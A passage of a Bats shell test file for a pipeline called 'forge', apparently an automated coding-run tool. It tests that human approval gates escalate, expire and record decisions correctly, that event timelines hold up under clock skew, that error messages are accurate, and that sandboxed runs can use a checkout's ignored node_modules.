	replay run-highrisk.jsonl
	# review asks a human at high risk: the plan's gate, then the review's
	jq '.review.human_min_risk = "high"' "$CONFIGS/high-risk.json" >"$BATS_TEST_TMPDIR/cfg.json"
	run -4 --separate-stderr forge run -q --config "$BATS_TEST_TMPDIR/cfg.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	# every process from here on: its clock an hour behind (an NTP step, or
	# the resume on a machine whose clock is behind the one that paused)
	export LD_PRELOAD="$BATS_TEST_TMPDIR/clock.so" FAKE_SKEW=-3600
	run -4 --separate-stderr forge resume -q --config "$BATS_TEST_TMPDIR/cfg.json" "$T" </dev/null
	# the gate says why, in the review's own words (before: "review needs a
	# human" alone: the newest phase.completed by time was the plan's)
	[[ "$stderr" == *"gate escalation_review is waiting for a human: review needs a human: require_human: "* ]] ||
		{ echo "$stderr"; false; }
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	run -0 --separate-stderr forge resume -q --config "$BATS_TEST_TMPDIR/cfg.json" "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e '.run.status == "completed" and .state.phase == "deploy"' <<<"$output"
	final=$(jq -cS .state <<<"$output")
	# the state the events rebuild is the one the run ended with, from the
	# newest snapshot and from the first (before: the plan's, phase "plan")
	run -0 forge events replay "$T" --state
	[ "$(jq -cS . <<<"$output")" = "$final" ]
	first=$(forge events replay "$T" | jq -r 'select(.type == "state.updated" and .payload.phase == "init") | .payload.checkpoint')
	run -0 forge events replay "$T" --state --from "$first"
	[ "$(jq -cS . <<<"$output")" = "$final" ]
	# the events and forge show's timeline in the order they happened:
	# started first, completed after the deploy (before: "run completed"
	# above "run started", everything after the step listed first)
	run -0 forge events replay "$T"
	jq -se 'map(.type) | (.[0] == "run.started") and (index("run.completed") > rindex("gate.approved"))' <<<"$output"
	run -0 forge show --json "$T"
	jq -e '.timeline | map(.text) | (.[0] | startswith("run started"))
		and (map(startswith("run completed")) | index(true)) == length - 1
		and (map(startswith("deploy ok")) | index(true)) == length - 2' <<<"$output" || { jq .timeline <<<"$output"; false; }
}

@test "forge gate approve: a note that is not UTF-8 is bad input (2), a database that refuses the decision is 5, not 'rejected' (1)" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	G=$(forge gate list --json | jq -r .id)
	run -2 --separate-stderr forge gate approve "$G" --note $'looks good \xe9'
	[[ "$stderr" == *"the note is not valid UTF-8"* ]]
	db_q "create trigger no_decisions before update on gates begin select raise(abort, 'read-only here'); end"
	run -5 --separate-stderr forge gate approve "$G"
	[[ "$stderr" == *"read-only here"* ]]
	db_q "drop trigger no_decisions"
	[ "$(forge gate list --json | jq -r .status)" = pending ]
	run -0 --separate-stderr forge gate approve "$G"
	run -1 --separate-stderr forge gate approve "$G"
	[[ "$stderr" == *"already approved"* ]]
	run -2 --separate-stderr forge gate approve 01JDB2ZZZZZZZZZZZZZZZZZZZZ
}

@test "a gate past its timeout: listed expired, refused to a late approval, and resume says why the run stops" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	G=$(forge gate list --json | jq -r .id)
	db_q "update gates set expires_at = '2000-01-01T00:00:00.000Z' where id = '$G'"
	# (before: still "pending" in the lists; resume failed the run as "a
	# gate was rejected" with nothing said)
	[ -z "$(forge gate list --json)" ]
	[ "$(forge gate list --all --json | jq -r .status)" = expired ]
	# (before: "reason waiting for a human at a gate", with no gate pending)
	run -0 forge status "$T"
	assert_line "reason   its gate expired without a decision: it counts as rejected, and a resume ends the run"
	# approving it now is refused as after the expiry is recorded (before:
	# accepted until a supervisor recorded it)
	run -1 --separate-stderr forge gate approve "$G"
	[[ "$stderr" == *"gate '$G' expired at 2000-01-01T00:00:00.000Z without a decision (its timeout_s): it counts as rejected"* ]]
	run -1 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	[[ "$stderr" == *"forge resume: gate architecture_approval ($G) expired without a decision (its timeout_s): it counts as rejected and the run stops"* ]]
	run -1 --separate-stderr forge gate approve "$G"
	[ "$(forge status --json "$T" | jq -r .run.status)" = failed ]
}

@test "a phase's line over the stream's limit is named as such, not 'a line that is not a record'" {
	# (before: "wrote a line that is not a record", though it was one, only
	# too long: forge-test's state of 2500 failures was 20 MB, hunt58)
	replay run-clean.jsonl
	BIN="$BATS_TEST_TMPDIR/bin"
	mkdir -p "$BIN"
	cp "$FORGE_BINDIR"/forge-supervisor "$BIN"/
	for p in plan implement review deploy; do ln -s "$FORGE_BINDIR/forge-$p" "$BIN/forge-$p"; done
	cat >"$BIN/forge-test" <<EOF
#!/usr/bin/env bash
python3 -c 'import sys; sys.stdout.write("{\"kind\":\"event\",\"type\":\"test.big\",\"payload\":{\"x\":\"" + "x" * (17 << 20) + "\"}}\n")'
exec "$FORGE_BINDIR/forge-test" "\$@"
EOF
	chmod +x "$BIN/forge-test"
	run --separate-stderr "$BIN/forge-supervisor" run -q "add a mul operation" </dev/null
	[[ $stderr == *"forge-supervisor: node 'test' wrote a line longer than the limit of 16777216 bytes (ignored)"* ]]
	[[ $stderr != *"not a record"* ]]
}

@test "a run's tests and implement's validation find the tools the person installed in the checkout (git-ignored node_modules); the run's branch holds none of it" {
	# (before: "jest: not found" in every run of a Node project)
	run -0 "$FORGE_TESTBIN/tool-run" --features
	[ "$(jq -r .namespaces.available <<<"$output")" = true ] || skip "no mount view here: the command names node_modules/.bin in the worktree"
	replay run-clean.jsonl
	echo 'node_modules/' >>"$REPO/.git/info/exclude"
	mkdir -p "$REPO/node_modules/.bin"
	printf '#!/bin/sh\necho "jest ran" >&2\n' >"$REPO/node_modules/.bin/jest"
	chmod +x "$REPO/node_modules/.bin/jest"
	echo '{"tools":{"test_command":"make check && node_modules/.bin/jest"}}' >"$BATS_TEST_TMPDIR/jest.json"
	run -0 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/jest.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 events_of "$T" test.ran
	jq -e '.exit_code == 0' <<<"$output"
	run -0 events_of "$T" validation.completed
	jq -e '.validated and (.command | test("jest"))' <<<"$output"
	run -0 events_of "$T" sandbox.dependencies
	jq -e '.lent[0].dir == "node_modules"' <<<"$(head -n 1 <<<"$output")"
	run -0 git -C "$REPO" ls-tree -r --name-only "forge/$T"
	refute_output --partial node_modules
	[ "$(git -C "$REPO" status --porcelain)" = "" ]
}
